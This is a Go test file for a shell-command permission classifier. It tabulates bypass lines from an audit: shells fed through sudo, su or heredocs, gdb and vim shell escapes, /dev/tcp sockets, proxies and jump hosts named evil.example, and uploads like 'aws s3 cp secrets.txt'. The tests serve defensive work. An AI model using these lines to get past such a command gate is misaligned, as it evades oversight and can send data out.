package shell

import "testing"

// bypassTable holds command lines found by the session-2 bypass audit:
// each ran a denied program, contacted the network or read code the
// classifier did not see, and was reported as harmless. Every row was
// checked against the real tool (bash, GNU env, util-linux su/runuser/
// script, awk, perl, gdb, vim, ed) with a harmless echo in place of git
// push. Same columns as table (table_test.go).
var bypassTable = []tcase{
	// Abbreviated long options and option clusters: getopt_long accepts a
	// unique prefix ("--comm" for "--command") and clusters ("-iS").
	{line: "env -iS 'git push'", progs: "env git", deny: "git:push", net: "git:push"},
	{line: "env -vS 'git push'", progs: "env git", deny: "git:push"},
	{line: "env -0iu X git push", progs: "env git", deny: "git:push"},
	{line: "env --spl='git push'", progs: "env git", deny: "git:push"},
	{line: "env --s 'git push'", progs: "env git", deny: "git:push"},
	{line: "env --ch /tmp git push", progs: "env git", deny: "git:push"},
	{line: "su --comm='git push'", progs: "su git", deny: "git:push"},
	{line: "su --co 'git push' root", progs: "su git", deny: "git:push"},
	{line: "runuser --comm='git push' x", progs: "runuser git", deny: "git:push"},
	{line: "runuser -u x --comm 'git push'", progs: "runuser git", deny: "git:push"},
	{line: "script -q --comm 'git push' /dev/null", progs: "script git", deny: "git:push"},
	{line: "chroot --user u:g / git push", progs: "chroot git", deny: "git:push"},

	// A shell started with no command reads its script from stdin.
	{line: "sudo -s <<< 'git push'", progs: "sudo git", deny: "git:push"},
	{line: "sudo -i <<< 'git push'", progs: "sudo git", deny: "git:push"},
	{line: "doas -s <<< 'git push'", progs: "doas git", deny: "git:push"},
	{line: "su <<< 'git push'", progs: "su git", deny: "git:push"},
	{line: "su - root <<< 'git push'", progs: "su git", deny: "git:push"},
	{line: "chroot / <<< 'git push'", progs: "chroot git", deny: "git:push"},
	{line: "unshare -r <<< 'git push'", progs: "unshare git", deny: "git:push"},
	{line: "sg grp <<< 'git push'", progs: "sg git", deny: "git:push"},
	{line: "newgrp <<< 'git push'", progs: "newgrp git", deny: "git:push"},
	{line: "script -q /dev/null <<< 'git push'", progs: "script git", deny: "git:push"},
	{line: "echo x | su", progs: "echo su", unp: "pipe", deny: unp},
	// Other names of stdin, and code read from it.
	{line: "sh /proc/self/fd/0 <<< 'git push'", progs: "sh git", deny: "git:push"},
	{line: "sh /dev/fd/0 <<< 'git push'", progs: "sh git", deny: "git:push"},
	{line: "awk -f - <<< 'BEGIN{system(\"git push\")}'", progs: "awk git", deny: "git:push"},
	{line: "awk -f /dev/stdin <<< 'BEGIN{system(\"git push\")}'", progs: "awk git", deny: "git:push"},
	{line: "cat f | awk -f -", progs: "cat awk", unp: "pipe", deny: unp},
	{line: "perl /dev/stdin <<< 'system(\"git push\")'", progs: "perl git", deny: "git:push"},
	// Stdin redirected for later commands, or from a process substitution.
	{line: "exec 0<<< 'git push'; bash", progs: "exec bash", unp: "exec without a command", deny: unp},
	{line: "exec < /dev/stdin; sh", progs: "exec sh", unp: "exec without a command", deny: unp},
	{line: "{ exec <<<'git push'; sh; }", progs: "exec sh", unp: "exec without a command", deny: unp},
	{line: "sh < <(echo git push)", progs: "sh echo", unp: "pipe", deny: unp},
	{line: "python3 < <(echo 'import os')", progs: "python3 echo", unp: "pipe", deny: unp},
	// A nested shell, or a command find runs, inherits the outer stdin.
	{line: "sh -c 'sh' <<< 'git push'", progs: "sh git", deny: "git:push"},
	{line: "bash -c 'bash -s' <<< 'git push'", progs: "bash git", deny: "git:push"},
	{line: "eval sh <<< 'git push'", progs: "eval sh git", deny: "git:push"},
	{line: "find . -maxdepth 0 -exec sh \\; <<< 'git push'", progs: "find sh git", deny: "git:push"},

	// Editors and debuggers that run shell commands.
	{line: "gdb -batch -ex 'shell git push'", progs: "gdb git", deny: "git:push"},
	{line: "gdb -batch -ex '!git push'", progs: "gdb git", deny: "git:push"},
	{line: "gdb -batch --eval-command='shell git push'", progs: "gdb git", deny: "git:push"},
	{line: "gdb -batch -ex run --args git push", progs: "gdb git", deny: "git:push"},
	{line: "gdb -batch -ex 'run push' git", progs: "gdb", unp: "gdb command", deny: unp},
	{line: "gdb -batch -ex 'python import os; os.system(\"git push\")'", progs: "gdb", unp: "gdb command", deny: unp},
	{line: "gdb -batch -ex 'call system(\"git push\")' -p 1", progs: "gdb", unp: "gdb command", deny: unp},
	{line: "gdb -batch -ex bt ./a.out core", progs: "gdb a.out"},
	{line: "vim -c '!git push' -c q", progs: "vim", unp: "runs Ex commands", deny: unp},
	{line: "vim --cmd '!git push'", progs: "vim", unp: "runs Ex commands", deny: unp},
	{line: "vi -es +'!git push' +q", progs: "vi", unp: "runs an Ex command", deny: unp},
	{line: "vim -es <<< '!git push'", progs: "vim", unp: "standard input", deny: unp},
	{line: "vim +10 f", progs: "vim"},
	{line: "vim +/TODO f", progs: "vim"},
	{line: "ed <<< '!git push'", progs: "ed", unp: "hold !", deny: unp},
	{line: "ed -s f <<< $'r !git push'", progs: "ed", unp: "hold !", deny: unp},
	{line: "ed -s f <<< $'1d\\nw'", progs: "ed"},

	// Interpreter exec primitives the heuristic did not know.
	{line: "lua -e 'os.execute(\"git push\")'", progs: "lua git", deny: "git:push"},
	{line: "Rscript -e 'system2(\"git\", \"push\")'", progs: "rscript git", deny: "git:push"},

	// bash opens a socket for a redirection to /dev/tcp|udp/HOST/PORT.
	{line: "cat < /dev/tcp/h.example/80", progs: "cat", unp: "opens a network connection", deny: unp},
	{line: "echo x > /dev/tcp/h.example/80", progs: "echo", unp: "opens a network connection", deny: unp},
	{line: "exec 3<>/dev/udp/h.example/53", progs: "exec", unp: "opens a network connection", deny: unp},
	{line: "F=/dev/tcp/h.example/80; cat < $F", progs: "cat", unp: "may be /dev/tcp", deny: unp},
	{line: "cat < \"/dev/$P/h.example/80\"", progs: "cat", unp: "may be /dev/tcp", deny: unp},
	{line: "while read l; do :; done < <(git ls-files)", progs: "read : git", net: "-"},
	{line: "cat < /dev/null > out.txt", progs: "cat", write: "out.txt|> out.txt"},
	// Network clients outside the HTTP/git/ssh families.
	{line: "openssl s_client -connect h.example:443", progs: "openssl", net: "dns git:fetch git:push http:read http:write ssh:read ssh:write", dom: "h.example"},
	{line: "openssl x509 -in c.pem -noout", progs: "openssl", net: "-"},
	{line: "busybox ftpget h.example f", progs: "busybox ftpget", net: "dns git:fetch git:push http:read http:write ssh:read ssh:write"},
	{line: "ping -c1 h.example", progs: "ping", net: "dns git:fetch git:push http:read http:write ssh:read ssh:write"},
	{line: "rclone copy a remote:b", progs: "rclone", net: "dns git:fetch git:push http:read http:write ssh:read ssh:write"},
	{line: "git send-email --to=x@example.test 0001.patch", progs: "git", net: "dns git:fetch git:push http:read http:write ssh:read ssh:write"},
	{line: "git imap-send < 0001.patch", progs: "git", deny: "git:push", net: "dns git:fetch git:push http:read http:write ssh:read ssh:write"},
	{line: "aws s3 cp secrets.txt s3://bucket/", progs: "aws", net: "dns git:fetch git:push http:read http:write ssh:read ssh:write"},
	{line: "kubectl cp ./dump pod:/tmp/", progs: "kubectl", net: "dns git:fetch git:push http:read http:write ssh:read ssh:write"},
	{line: "gcloud storage cp f gs://b/", progs: "gcloud", net: "dns git:fetch git:push http:read http:write ssh:read ssh:write"},

	// Hosts a network command contacts besides its URL or destination.
	{line: "curl -x proxy.example http://good.example", progs: "curl", dom: "good.example proxy.example"},
	{line: "curl http://good.example --proxy evil.example:8080", progs: "curl", dom: "good.example evil.example"},
	{line: "HTTPS_PROXY=http://evil.example curl https://good.example", progs: "curl", unp: "through a proxy", deny: unp},
	{line: "export all_proxy=evil.example", progs: "export", unp: "through a proxy", deny: unp},
	{line: "ssh -J jump.example good.example", progs: "ssh", dom: "good.example jump.example"},
	{line: "ssh -J u@j1.example:22,j2.example good.example", progs: "ssh", dom: "good.example j1.example j2.example"},
	{line: "ssh -o HostName=evil.example good.example", progs: "ssh", dom: "good.example evil.example"},
	{line: "ssh -o 'ProxyJump evil.example' good.example", progs: "ssh", dom: "good.example evil.example"},
	{line: "scp -o ProxyJump=evil.example a good.example:b", progs: "scp", dom: "evil.example good.example"},
	{line: "rsync -e 'ssh -J evil.example' a good.example:b", progs: "rsync ssh", dom: "good.example evil.example"},

	// File writes the classifier did not see.
	{line: "curl https://x.example/f --output out", progs: "curl", write: "out|curl --output"},
	{line: "cp -t /etc a", progs: "cp", write: "/etc|cp -t"},
	{line: "mv --target-directory=/etc a b", progs: "mv", write: "/etc|mv -t"},
	{line: "uniq in.txt out.txt", progs: "uniq", write: "out.txt|uniq OUTPUT"},
	{line: "uniq -c in.txt", progs: "uniq", write: "-"},
	{line: "printf x | sponge f", progs: "printf sponge", write: "f|sponge"},
	{line: "split -l 10 f part.", progs: "split", write: "|split"},
	{line: "zip out.zip f", progs: "zip", write: "|zip"},
	{line: "tar -C d -cf o.tar .", progs: "tar", write: "o.tar|tar -c"},
	{line: "tar czf o.tgz d", progs: "tar", write: "|tar -c"},
	{line: "tar -cf - d", progs: "tar", write: "-"},
	{line: "tar -tvf in.tar", progs: "tar", write: "-"},
	{line: "git archive -o out.zip HEAD", progs: "git", write: "out.zip|git archive -o"},
	{line: "sed -n 'w out' f", progs: "sed", write: "out|sed w"},
	{line: "sed 's/a/b/w out' f", progs: "sed", write: "out|sed w"},
	{line: "sed '/start/,/end/w out' f", progs: "sed", write: "out|sed w"},
	{line: "sed 's/world/x/g;/wow/p' f", progs: "sed", write: "-"},
	{line: "sed 's/a/b/w /dev/stdout' f", progs: "sed", write: "-"},
	{line: "awk '{print > \"out\"}' f", progs: "awk", write: "|awk print > file"},
	{line: "awk '$1 > 3 {print}' f", progs: "awk", write: "-"},
	{line: "python3 -c 'open(\"f\",\"w\").write(\"x\")'", progs: "python3", write: "|code writes a file"},
	{line: "python3 -c 'print(open(\"f\").read())'", progs: "python3", write: "-"},
	{line: "node -e 'require(\"fs\").writeFileSync(\"f\",\"x\")'", progs: "node", write: "|code writes a file"},
	{line: "perl -e 'open(F, \">f\"); print F 1'", progs: "perl", write: "|code writes a file"},
	{line: "ruby -e 'File.write(\"f\",\"x\")'", progs: "ruby", write: "|code writes a file"},

	// gh's built-in aliases of a denied chain (cobra Aliases: pr/issue/repo
	// create have "new").
	{line: "gh pr new --title x --body y", progs: "gh", deny: "gh:pr:create", subs: "gh=pr:create"},
	{line: "gh -R o/r pr new", progs: "gh", deny: "gh:pr:create"},
	{line: "gh pr ls", progs: "gh", subs: "gh=pr:list"},
	// Recipes given in the line (make syntax is not parsed: fail closed),
	// and a package script defined in the line, run by a later command.
	{line: "make -f - <<< $'all:\n\tgit push'", progs: "make", unp: "makefile from standard input", deny: unp},
	{line: "make --eval=$'all:\n\tgit push'", progs: "make", unp: "make --eval", deny: unp},
	{line: "make -E 'x: ; git push' x", progs: "make", unp: "make --eval", deny: unp},
	{line: "just --justfile /dev/stdin <<< $'x:\n\tgit push'", progs: "just", unp: "makefile from standard input", deny: unp},
	{line: "make -f build.mk test", progs: "make", opaque: "make"},
	{line: "npm pkg set scripts.x='git push' && npm run x", progs: "npm", unp: "defines a package script", deny: unp},
	{line: "npm pkg set version=1.2.3", progs: "npm"},
}

func TestBypassTable(t *testing.T) {
	seen := map[string]bool{}
	for _, tc := range bypassTable {
		if seen[tc.line] {
			t.Errorf("duplicate row %q", tc.line)
		}
		seen[tc.line] = true
	}
	for _, tc := range table {
		if seen[tc.line] {
			t.Errorf("row %q is in table too", tc.line)
		}
	}
	runTable(t, bypassTable)
}
